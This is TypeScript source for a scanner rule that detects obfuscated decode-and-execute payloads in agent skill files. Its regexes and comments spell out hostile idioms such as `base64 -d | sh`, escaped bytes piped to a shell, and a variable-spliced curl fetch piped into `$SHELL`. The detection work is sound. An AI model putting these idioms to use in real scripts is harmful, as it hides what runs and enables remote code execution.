// SC3: a hidden payload decoded and executed, and the marks obfuscators leave in code.
//
// Two kinds of evidence, judged differently:
// - decode-and-execute (a decoder's output reaches exec/eval, a shell, or a process call; `base64 -d | sh`,
//   `rev | bash`, a ROT13 `tr … | sh`, escaped bytes piped to a shell, a command spliced from variables):
//   in any text the agent reads or runs, SKILL.md included, fenced or not. Reported CRITICAL: the step
//   exists only to keep a reviewer from reading what runs.
// - obfuscation marks (`_0x…(` identifiers, inline `__import__("os").system`, very long encoded literals):
//   code only, HIGH at the pattern's confidence.
// Base64 is not evidence by itself: signatures, certificates, SBOMs and lockfiles carry it as data, and
// calibration drops every finding there; data files are never read for the literal marks.
import { eachMatch } from '../../analysis/kernel.js';
import { activeLimits, noteActiveLimit } from '../../analysis/kernel.js';
import type { LineList } from '../../analysis/lines.js';
import { fileRole } from '../../analysis/placement.js';
import { viewsOf, type SharedView } from '../../analysis/views.js';
import type { FileView } from '../../model/bundle.js';
import type { Severity } from '../../shared/types.js';
import { bestPerLine } from '../kit/scan-helpers.js';
import { defineRule } from '../types.js';
import { gateOpen, walkGate } from '../kit/walk-gates.js';
import type { RuleHit } from '../types.js';
import { cautionaryReason, downgradeCautionary } from './context.js';

type Kind = 'exec' | 'mark' | 'encoded-ps';

interface Spec {
  re: RegExp;
  label: string;
  kind: Kind;
  confidence: number;
  keywords: readonly string[];
  /** A second prefilter: the text must also hold one of these (both lists name literals the pattern needs). */
  also?: readonly string[];
  /** Decides a match's label after the pattern (null: not a finding); the spec's label otherwise. */
  refine?: (matched: string) => string | null;
}

const HEX_BODY = /^[0-9a-fA-F]+$/;

/** Hex with a digit and a letter, `\x` escapes, or base64 mixing digits, upper and lower case: else null. */
function encodedLiteral(matched: string): string | null {
  const body = matched.slice(1, -1);
  if (body.startsWith('\\x') || (HEX_BODY.test(body) && /[0-9]/.test(body) && /[a-fA-F]/.test(body))) return 'Long hex literal in code';
  return /[0-9]/.test(body) && /[A-Z]/.test(body) && /[a-z]/.test(body) ? 'Long base64 literal in code' : null;
}

const DECODERS =
  String.raw`(?:base64\s{0,2}\.\s{0,2}(?:b64decode|b32decode|b85decode|decodebytes|decodestring|urlsafe_b64decode)|b64decode|codecs\s{0,2}\.\s{0,2}decode|zlib\s{0,2}\.\s{0,2}decompress|lzma\s{0,2}\.\s{0,2}decompress|bz2\s{0,2}\.\s{0,2}decompress|gzip\s{0,2}\.\s{0,2}decompress|marshal\s{0,2}\.\s{0,2}loads|bytes\s{0,2}\.\s{0,2}fromhex|binascii\s{0,2}\.\s{0,2}(?:unhexlify|a2b_base64|a2b_hex)|atob|Buffer\s{0,2}\.\s{0,2}from|unescape|String\s{0,2}\.\s{0,2}fromCharCode|Base64\s{0,2}\.\s{0,2}(?:decode64|strict_decode64|urlsafe_decode64)|decode_base64|base64_decode|gzinflate|gzuncompress|gzdecode|str_rot13)`;
const DECODER_WORDS = ['b64decode', 'b32decode', 'b85decode', 'decodebytes', 'decodestring', 'codecs', 'decompress', 'marshal', 'fromhex', 'binascii', 'atob', 'buffer', 'unescape', 'fromcharcode', 'decode64', 'decode_base64', 'base64_decode', 'gzinflate', 'gzuncompress', 'gzdecode', 'str_rot13'];
const SHELL_DECODE_WORDS = ['base64', 'xxd', 'openssl', 'gunzip', 'zcat', 'gzip'];
const TR_WORDS = ['tr ', 'tr\t'];
const DECODE_FLOW_WORDS = [...DECODER_WORDS, ...SHELL_DECODE_WORDS, 'rev', ...TR_WORDS];
const PIPE = ['|'];
const DECODE_FLOW_GATE = walkGate('SC3 decoded then run', [DECODE_FLOW_WORDS]);

// Where shell text goes to run: a shell or interpreter reading stdin, `$SHELL` included.
const SINK = String.raw`(?:sudo\s{1,4}(?:-\S{1,6}\s{1,4})?)?(?:(?:(?:\/usr)?(?:\/local)?\/bin\/)?(?:(?:ba|z|da|k)?sh|python[0-9.]{0,4}|perl|node|ruby|php)\b|\$\{?SHELL\b\}?)`;
// Shell decoders: base64 (GNU -d, macOS -D), xxd, openssl, gzip family.
const SHELL_DECODE = String.raw`(?:base64\s{1,4}(?:-d|-di|--decode|-D)|xxd\s{1,4}-r(?:\s{1,4}-p)?|openssl\s{1,4}(?:base64|enc)\s{1,4}(?:-\S{1,12}\s{1,4}){0,3}-d|gunzip|zcat|gzip\s{1,4}-d)\b`;
// Not preceded by `.` or an identifier character: the builtins exec/eval, not `regex.exec(…)`.
const BUILTIN = String.raw`(?<![.\w$])`;
const SHELL_RUN = String.raw`\b(?:os\s{0,2}\.\s{0,2}(?:system|popen)|subprocess\s{0,2}\.\s{0,2}(?:run|call|Popen|check_output|check_call|getoutput)|execSync|spawnSync|child_process\s{0,2}\.\s{0,2}(?:exec|spawn)|Runtime\s{0,2}\.\s{0,2}getRuntime\s{0,2}\(\s{0,2}\)\s{0,2}\.\s{0,2}exec|shell_exec|passthru|popen|proc_open)`;
const ESCAPES = String.raw`(?:\\x[0-9a-fA-F]{2}|\\[0-7]{3}|\\u[0-9a-fA-F]{4})`;
const VAR = String.raw`\$\{?[A-Za-z_]\w{0,20}\}?`;

const SPECS: readonly Spec[] = [
  {
    re: new RegExp(String.raw`${BUILTIN}(?:exec|eval|compile|new\s{1,4}Function|Function)\s{0,4}\([^\n]{0,120}?\b${DECODERS}\s{0,4}\(`, 'gi'),
    label: 'exec/eval of decoded or decompressed data', kind: 'exec', confidence: 0.9, keywords: DECODER_WORDS,
  },
  {
    re: new RegExp(String.raw`${SHELL_RUN}\s{0,4}\([^\n]{0,120}?\b${DECODERS}\s{0,4}\(`, 'gi'),
    label: 'Decoded data run as a command', kind: 'exec', confidence: 0.85, keywords: DECODER_WORDS,
  },
  {
    re: new RegExp(String.raw`${BUILTIN}(?:exec|eval)\s{0,4}\(\s{0,4}[rbuRBU]{0,2}['"](?:\\x[0-9a-fA-F]{2}|\\[0-7]{3}|\\u[0-9a-fA-F]{4}){8}`, 'g'),
    label: 'exec/eval of an escaped string', kind: 'exec', confidence: 0.85, keywords: ['\\x', '\\u', '\\1', '\\0'],
  },
  {
    re: new RegExp(String.raw`\b${SHELL_DECODE}[^\n|]{0,80}\|\s{0,4}${SINK}`, 'gi'),
    label: 'Decoded payload piped into a shell', kind: 'exec', confidence: 0.9, keywords: SHELL_DECODE_WORDS, also: PIPE,
  },
  {
    re: new RegExp(String.raw`(?:\beval|\b(?:ba|z|da|k)?sh\s{1,4}(?:-c|<<<)|\bpython[0-9.]{0,4}\s{1,4}-c|\bsource|(?:^|[\s;&|])\.)\s{1,4}["']?(?:\$\(|\x60|<\()[^\n]{0,200}?(?:\b${SHELL_DECODE}|\|\s{0,4}rev\b|\|\s{0,4}tr\s)`, 'gim'),
    label: 'Shell evaluates decoded text', kind: 'exec', confidence: 0.85, keywords: ['$(', '`', '<('], also: [...SHELL_DECODE_WORDS, 'rev', ...TR_WORDS],
  },
  {
    re: new RegExp(String.raw`(?:\||^|[;&(])\s{0,4}rev\b[^\n|]{0,300}\|\s{0,4}${SINK}`, 'gim'),
    label: 'Reversed text piped into a shell', kind: 'exec', confidence: 0.85, keywords: ['rev'], also: PIPE,
  },
  {
    re: new RegExp(String.raw`(?:\||^|[;&(])\s{0,4}tr\s{1,4}['"]?[A-Za-z][A-Za-z-]{2,11}['"]?\s{1,4}['"]?[A-Za-z][A-Za-z-]{2,15}['"]?[^\n|]{0,300}\|\s{0,4}${SINK}`, 'gim'),
    label: 'Letter-substituted (ROT13-style) text piped into a shell', kind: 'exec', confidence: 0.85, keywords: TR_WORDS, also: PIPE,
  },
  {
    re: new RegExp(String.raw`\b(?:printf|echo\s{1,4}-[neE]{1,3})\s{1,4}\$?['"][^'"\n]{0,40}(?:\\x[0-9a-fA-F]{2}|\\[0-7]{3}|\\u[0-9a-fA-F]{4}){4}[^\n]{0,400}?\|\s{0,4}${SINK}`, 'gi'),
    label: 'Escaped bytes piped into a shell', kind: 'exec', confidence: 0.85, keywords: ['printf', 'echo'], also: PIPE,
  },
  {
    // `sh -c "$(printf '\x63\x75…')"`, `bash <(echo -e '\x..')`, `eval $'\x63…'`: escaped bytes evaluated as a command.
    re: new RegExp(String.raw`(?:\beval|\b(?:ba|z|da|k)?sh(?:\s{1,4}-c)?|\bsource|(?:^|[\s;&|])\.)\s{1,4}(?:["']?(?:\$\(|\x60|<\()\s{0,4}(?:printf|echo\s{1,4}-[neE]{1,3})\s{1,4}\$?['"]|\$')${ESCAPES}{4}`, 'gim'),
    label: 'Shell evaluates escaped bytes', kind: 'exec', confidence: 0.85, keywords: ['\\x', '\\u', '\\1', '\\0'], also: ['$(', '`', '<(', "$'"],
  },
  {
    // `c=cu; d=rl; $c$d -s host/x | $SHELL`: a command name assembled from variables, fed to a shell.
    re: new RegExp(String.raw`(?:^|[;&|(]|\$\(|\b(?:then|do)\b)\s{0,4}(?:${VAR}){2,4}(?=[\s;|&)])[^\n]{0,300}?\|\s{0,4}${SINK}`, 'gim'),
    label: 'Command spliced from variables, piped into a shell', kind: 'exec', confidence: 0.85, keywords: ['$'], also: PIPE,
  },
  {
    // Short fragments assigned, then joined as a command: `a=cu;b=rl;$a$b …`.
    re: new RegExp(String.raw`\b[A-Za-z_]\w{0,15}=['"]?[\w.-]{1,5}['"]?\s{0,2};\s{0,4}[A-Za-z_]\w{0,15}=['"]?[\w.-]{1,5}['"]?\s{0,2}(?=;)[^\n]{0,120}?(?:[;&|(]|\$\()\s{0,4}(?:${VAR}){2,4}(?=[\s;|&)])`, 'g'),
    label: 'Command spliced from short variable fragments', kind: 'exec', confidence: 0.85, keywords: ['$'], also: [';'],
  },
  {
    re: /\b(?:powershell|pwsh)(?:\.exe)?\b[^\n]{0,80}?\s-(?:e|ec|enc|encodedcommand)\s{1,4}[A-Za-z0-9+/]{40,}={0,2}/gi,
    label: 'PowerShell -EncodedCommand', kind: 'encoded-ps', confidence: 0.9, keywords: ['powershell', 'pwsh'],
  },
  {
    re: /\b(?:iex|invoke-expression)\b[^\n]{0,120}?frombase64string/gi,
    label: 'PowerShell Invoke-Expression of base64 data', kind: 'exec', confidence: 0.9, keywords: ['frombase64string'],
  },
  {
    re: /\b_0x[0-9a-f]{4,8}\s{0,2}\(/gi,
    label: 'JavaScript-obfuscator identifier', kind: 'mark', confidence: 0.75, keywords: ['_0x'],
  },
  {
    re: /\b__import__\s{0,4}\(\s{0,4}['"](?:os|subprocess|pty|commands)['"]\s{0,4}\)\s{0,4}\.\s{0,4}(?:system|popen|call|run|check_output|Popen|spawn|getoutput)\b/g,
    label: 'Inline __import__ of a command runner', kind: 'mark', confidence: 0.85, keywords: ['__import__'],
  },
  {
    re: /\bgetattr\s{0,4}\(\s{0,4}__import__\s{0,4}\(\s{0,4}['"](?:os|subprocess)['"]/g,
    label: 'Reflective call into os/subprocess', kind: 'mark', confidence: 0.85, keywords: ['__import__'],
  },
  {
    // A long base64 or hex string literal in code: one pass finds the literal, `encodedLiteral` names it.
    re: /['"`](?:[A-Za-z0-9+/]{200,}={0,2}|(?:\\x[0-9a-fA-F]{2}){100,})['"`]/g,
    label: 'Long base64 literal in code', kind: 'mark', confidence: 0.55, keywords: [], refine: encodedLiteral,
  },
];

// Decoded flows over two statements: `p = base64.b64decode(s)` … `exec(p)`; `x=$(echo … | base64 -d)` … `eval "$x"`.
const ASSIGN_DECODED = new RegExp(
  String.raw`^\s{0,40}(?:(?:const|let|var|local|export)\s{1,4})?([A-Za-z_$][\w$]{0,40})\s{0,4}=\s{0,4}(?:[^\n]{0,80}?\b${DECODERS}\s{0,4}\(|["']?\$\([^\n]{0,200}?(?:\b${SHELL_DECODE}|\|\s{0,4}rev\b|\|\s{0,4}tr\s))`,
  'i',
);
const FOLLOW_LINES = 10;
const MAX_LINE = 2_000;

function escapeRe(s: string): string {
  return s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}

function decodedThenRun(lines: LineList): { line: number; runLine: number; matched: string }[] {
  const out: { line: number; runLine: number; matched: string }[] = [];
  let seen = 0;
  const max = activeLimits().maxDecodeAssignmentsPerFile;
  for (let i = 0; i < lines.length; i += 1) {
    const text = (lines.at(i) ?? '').slice(0, MAX_LINE);
    if (!text.includes('=')) continue;
    const m = ASSIGN_DECODED.exec(text);
    if (!m) continue;
    if (seen >= max) {
      noteActiveLimit({ what: 'decoded assignments', observed: seen + 1, limit: max });
      break;
    }
    seen += 1;
    const v = escapeRe(m[1] ?? '');
    const run = new RegExp(
      String.raw`${BUILTIN}(?:exec|eval)\s{0,4}\(\s{0,4}(?:compile\s{0,4}\(\s{0,4})?${v}\b|\bnew\s{1,4}Function\s{0,4}\(\s{0,4}${v}\b|${SHELL_RUN}\s{0,4}\(\s{0,4}${v}\b|\beval\s{1,4}["']?\$\{?${v}\b|\b(?:ba|z|da|k)?sh\s{1,4}-c\s{1,4}["']?\$\{?${v}\b|\b(?:echo|printf)\s{1,4}(?:-\S{1,3}\s{1,4})?["']?\$\{?${v}\b[^\n|]{0,40}\|\s{0,4}${SINK}`,
      'i',
    );
    for (let j = i + 1; j < lines.length && j <= i + FOLLOW_LINES; j += 1) {
      if (run.test((lines.at(j) ?? '').slice(0, MAX_LINE))) {
        out.push({ line: i + 1, runLine: j + 1, matched: text.trim().slice(0, 200) });
        break;
      }
    }
  }
  return out;
}

// Data, not commands: in these languages a PowerShell command line is a string until a process call runs it.
const HOST_LANGUAGES: ReadonlySet<string> = new Set(['python', 'javascript', 'typescript', 'ruby', 'go', 'php', 'rust']);
const PROCESS_CALL = /\b(?:spawn|spawnSync|exec|execSync|execFile|execFileSync|system|popen|Popen|subprocess|check_output|check_call|call|run|Start-Process|ShellExecute\w{0,4}|Process\.Start|Command|shell_exec|passthru|proc_open)\s{0,4}\(/;
const MARK_TYPES: ReadonlySet<string> = new Set(['python', 'javascript', 'typescript', 'shell', 'powershell', 'batch', 'ruby', 'other']);

// `… | python -m json.tool`, `… | node -e "…"`: the interpreter's code is its argument; stdin is data.
const DATA_FILTER_AFTER = /^\s{1,4}-[cme]\b/;
const INTERPRETER_END = /(?:python[0-9.]{0,4}|node|perl|ruby|php)$/i;

// A whole-line comment in code documents a technique; nothing on that line runs. Only markers that comment
// out the entire rest of the line in that language (no block comments: `/* x */ eval(…)` runs).
const HASH_COMMENT = /^\s{0,40}#(?!!)/;
const SLASH_COMMENT = /^\s{0,40}\/\//;
const BATCH_COMMENT = /^\s{0,40}(?:@?rem\b|::)/i;
const COMMENT_LINE: Readonly<Record<string, RegExp>> = {
  python: HASH_COMMENT, shell: HASH_COMMENT, ruby: HASH_COMMENT, powershell: HASH_COMMENT,
  javascript: SLASH_COMMENT, typescript: SLASH_COMMENT, go: SLASH_COMMENT, rust: SLASH_COMMENT, php: SLASH_COMMENT,
  batch: BATCH_COMMENT,
};

// A Markdown table row is a cell layout, not a command line: `| rev | python |` is two cells.
const TABLE_ROW = /^\s{0,8}\|/;
const PROSE_TYPES: ReadonlySet<string> = new Set(['markdown', 'text']);

// `base64 -d | bash` named in running prose: an inline code span that opens with the decoder and hands it
// no input (no `echo … |` before it, no file or `<<<` after it) names the idiom; nothing is decoded.
const DECODER_ALONE = new RegExp(String.raw`^${SHELL_DECODE}(?:\s{1,4}-{1,2}[A-Za-z]{1,12}){0,4}\s{0,4}\|`, 'i');

function judge(file: FileView, spec: Spec, lines: LineList, line: number, matched: string, after: string, before: string): { severity: Severity; confidence: number; label: string } | null {
  if (PROSE_TYPES.has(file.type) && TABLE_ROW.test((lines.at(line - 1) ?? '').slice(0, 40))) return null;
  if (PROSE_TYPES.has(file.type) && before === '`' && DECODER_ALONE.test(matched)) {
    return { severity: 'LOW', confidence: 0.3, label: `${spec.label} (the idiom named in prose, with no input to decode)` };
  }
  if (COMMENT_LINE[file.type]?.test((lines.at(line - 1) ?? '').slice(0, 200))) {
    return { severity: 'LOW', confidence: 0.3, label: `${spec.label} (in a comment)` };
  }
  if (spec.kind === 'exec' && INTERPRETER_END.test(matched) && DATA_FILTER_AFTER.test(after)) {
    return { severity: 'LOW', confidence: 0.2, label: 'Decoded data piped into an interpreter used as a data filter' };
  }
  if (spec.kind === 'mark') return MARK_TYPES.has(file.type) ? { severity: 'HIGH', confidence: spec.confidence, label: spec.label } : null;
  if (spec.kind === 'encoded-ps' && HOST_LANGUAGES.has(file.type)) {
    const near = [lines.at(line - 3), lines.at(line - 2), lines.at(line - 1)].map((l) => (l ?? '').slice(0, MAX_LINE)).join('\n');
    if (!PROCESS_CALL.test(near)) return { severity: 'LOW', confidence: 0.3, label: 'PowerShell encoded command held as a data string' };
  }
  return { severity: 'CRITICAL', confidence: spec.confidence, label: spec.label };
}

function scan(file: FileView, view: SharedView, tag: string | undefined, hits: RuleHit[]): void {
  for (const spec of SPECS) {
    if (spec.keywords.length > 0 && !view.keywords.any(spec.keywords)) continue;
    if (spec.also && !view.keywords.any(spec.also)) continue;
    let n = 0;
    eachMatch(view.text, spec.re, (m) => {
      if (n >= 512) return false;
      n += 1;
      const line = view.index.lineOf(m.index);
      const after = view.text.slice(m.index + m[0].length, m.index + m[0].length + 8);
      const label = spec.refine ? spec.refine(m[0]) : spec.label;
      if (label === null) return undefined;
      const before = m.index > 0 ? view.text.charAt(m.index - 1) : '';
      const j = judge(file, label === spec.label ? spec : { ...spec, label }, view.lines, line, m[0], after, before);
      if (!j) return undefined;
      hits.push({
        line, column: m.index - view.index.lineStart(line), matched: m[0], label: j.label, severity: j.severity, confidence: j.confidence,
        ...(tag ? { tags: [tag] } : {}), evidence: { technique: spec.kind === 'mark' ? 'obfuscation-mark' : 'decode-execute' },
      });
      return undefined;
    });
  }
  if (!gateOpen(view, DECODE_FLOW_GATE)) return;
  for (const flow of decodedThenRun(view.lines)) {
    hits.push({
      line: flow.line, endLine: flow.runLine, matched: flow.matched, column: 0, label: 'Decoded data executed a few lines later',
      severity: 'CRITICAL', confidence: 0.85, ...(tag ? { tags: [tag] } : {}), evidence: { technique: 'decode-execute', runLine: flow.runLine },
    });
  }
}

export const sc3 = defineRule({
  kind: 'custom',
  meta: {
    id: 'SC3',
    category: 'Supply Chain',
    severity: 'HIGH',
    confidence: 0.8,
    title: 'Obfuscated Code Execution',
    description:
      'A hidden payload decoded and executed: exec/eval of base64, hex, zlib, marshal or ROT13 data (in one call or through a variable), `base64 -d | sh`, `rev | bash`, a ROT13 `tr … | sh`, escaped bytes (`printf \'\\x..\' | sh`, `sh -c "$(printf \'\\x..\')"`, `eval $\'\\x..\'`), a decoded here-string (`bash <<< "$(base64 -d <<< …)"`) or a command spliced from variables (`$c$d … | $SHELL`) piped into a shell, PowerShell -EncodedCommand or Invoke-Expression of base64. These are reported CRITICAL wherever the agent reads or runs them, SKILL.md included: legitimate skills have no reason to hide what they run. Obfuscation marks in code (JavaScript-obfuscator `_0x…(` identifiers, inline `__import__("os").system`, very long encoded literals) are reported HIGH. A bare `base64 -d | bash` named in prose with nothing fed to the decoder is LOW. Base64 in signatures, certificates, SBOMs and lockfiles is data and is not read; an encoded PowerShell command inside a data string of another language is LOW until a process call runs it.',
    remediation:
      'Replace the encoded payload with readable source that reviewers (and scanners) can inspect. If data must be embedded, load it as data and never pass it to exec/eval or a shell.',
  },
  // Signatures, certificates and lockfiles hold base64 as data; binary rows have no text.
  appliesTo: (file) => file.type !== 'binary' && fileRole(file) !== 'signature' && fileRole(file) !== 'lockfile',
  check({ file }) {
    const hits: RuleHit[] = [];
    const views = viewsOf(file.text);
    scan(file, views.raw, undefined, hits);
    if (views.security) scan(file, views.security, 'normalized-view', hits);
    const lines = views.raw.lines;
    return bestPerLine(hits, 'HIGH').map((h) => {
      const why = h.severity !== 'LOW' ? cautionaryReason(file, lines, h.line, views.raw.index) : null;
      return why ? downgradeCautionary(h, h.confidence ?? 0.8, why) : h;
    });
  },
});
